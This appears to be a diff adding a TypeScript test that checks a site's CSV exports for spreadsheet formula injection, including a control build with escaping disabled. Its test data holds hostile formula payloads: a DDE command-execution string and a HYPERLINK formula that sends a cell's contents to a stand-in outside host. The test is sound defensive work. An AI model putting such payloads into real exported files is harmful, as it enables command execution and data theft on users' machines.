@@ -1,0 +1,122 @@
+import { execFile } from 'node:child_process';
+import { promisify } from 'node:util';
+import { parse } from 'csv-parse/sync';
+import { calls } from '../contract/calls.ts';
+import { PROGRAM, startServer } from '../server/testing/server-process.ts';
+import { signIn } from '../server/testing/signed-in.ts';
+import { openStorage } from '../storage/open.ts';
+import type { Storage } from '../storage/storage.ts';
+import { testEngines } from '../storage/testing/test-databases.ts';
+import { expectFailure, type Proof, require } from './proof.ts';
+import { withWeakened } from './weakened-program.ts';
+
+const ADMIN = '+15550001111';
+const NOON = Date.UTC(2025, 5, 14, 12);
+/** What spreadsheets take for the begin of a formula, the wide forms of Chinese and Japanese keyboards included. */
+const STARTS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
+const FORMULAS = [
+  '',
+  '1+1',
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("https://elsewhere.example/?"&A1,"x")',
+];
+/** What is no formula, but must come back as it was. */
+const PLAIN = [
+  'ana',
+  'a=b',
+  '"',
+  '""',
+  ',',
+  ';=1+1',
+  'a\nb',
+  'a\r\nb',
+  "'=1",
+  ' =1',
+  '名前',
+  '1e9',
+];
+const texts = [...STARTS.flatMap((start) => FORMULAS.map((rest) => start + rest)), ...PLAIN];
+
+export const inertCsv: Proof = {
+  id: 'V5',
+  promise: 'No cell of a CSV that the site exports is a formula, and each is otherwise as it was.',
+  grounds: testEngines.map(({ name }) => name),
+  run: (engine) => exportTexts(engine),
+  control: { without: 'the apostrophe before a formula', run: exportTextsWeakened },
+};
+
+/** Leaves formulas as they are, and expects that it is noticed. */
+export function exportTextsWeakened(engine: string): Promise<string> {
+  return withWeakened(
+    'server/csv.ts',
+    ['escape_formulas: true', 'escape_formulas: false'],
+    (program) => expectFailure(/^A cell begins/, () => exportTexts(engine, program)),
+  );
+}
+
+/** Stores each text as a name, an id and an address, and reads it back from each CSV. */
+export async function exportTexts(engine: string, program: string = PROGRAM): Promise<string> {
+  const server = await startServer({ engine, program, env: { RATE_LIMITS: 'off' } });
+  const storage = await openStorage(server.databaseUrl, 'visitor');
+  try {
+    // Into the storage itself: the calls refuse some, and what they refuse may change.
+    for (const text of texts) {
+      const profile = { firstName: text, profileImageUrl: null };
+      await storage.inviters.put({ id: `${text}!`, username: text, ...profile });
+      await storage.inviteEvents.visit({ ...VISIT, inviterId: `${text}!` });
+      await storage.waitlist.join(`${text}@example.com`, NOON);
+    }
+    const analytics = rowsOf(await downloadAnalytics(server.url, storage));
+    const waitlist = rowsOf(await exportWaitlist(server.databaseUrl, program));
+    requireCells(
+      analytics.map(({ username }) => username),
+      texts,
+    );
+    requireCells(
+      analytics.map(({ userId }) => userId),
+      texts.map((text) => `${text}!`),
+    );
+    requireCells(
+      waitlist.map(({ email }) => email),
+      texts.map((text) => `${text}@example.com`),
+    );
+    return `${texts.length} texts, ${STARTS.length * FORMULAS.length} of them formulas, in ${analytics.length} rows of figures and ${waitlist.length} of the waitlist: 0 cells begin one, all others as they were`;
+  } finally {
+    await storage.close();
+    await server.stop();
+  }
+}
+
+const VISIT = { action: 'page_view', eventId: undefined, at: NOON, excluded: undefined } as const;
+
+async function downloadAnalytics(url: string, storage: Storage): Promise<string> {
+  await storage.admins.add(ADMIN, NOON);
+  const { userId, headers } = await signIn({ storage, clock: Date.now, https: false }, ADMIN);
+  const query = new URLSearchParams({ userId });
+  const answer = await fetch(`${url}${calls.getAnalyticsCsv.path}?${query}`, { headers });
+  require(answer.status === 200, `The figures were answered ${answer.status}.`);
+  return await answer.text();
+}
+
+async function exportWaitlist(databaseUrl: string, program: string): Promise<string> {
+  const env = { DATABASE_URL: databaseUrl };
+  const parameters = [program, 'export', 'waitlist'];
+  return (await promisify(execFile)(process.execPath, parameters, { env })).stdout;
+}
+
+/** @throws unless it is CSV to the letter of RFC 4180, every text in quotes */
+function rowsOf(csv: string): Record<string, string>[] {
+  require(csv.endsWith('\r\n'), 'The last line does not end with CRLF.');
+  const options = { columns: true, record_delimiter: '\r\n', relax_quotes: false } as const;
+  return parse(csv, options);
+}
+
+function requireCells(cells: (string | undefined)[], originals: readonly string[]): void {
+  const running = cells.filter((cell = '') => STARTS.some((start) => cell.startsWith(start)));
+  require(running.length === 0, `A cell begins a formula: ${JSON.stringify(running[0])}`);
+  const inert = (text: string) =>
+    STARTS.some((start) => text.startsWith(start)) ? `'${text}` : text;
+  const missing = originals.map(inert).filter((text) => !cells.includes(text));
+  require(missing.length === 0, `A cell did not come back: ${JSON.stringify(missing[0])}`);
+  require(cells.length === originals.length, `There are ${cells.length} rows.`);
+}
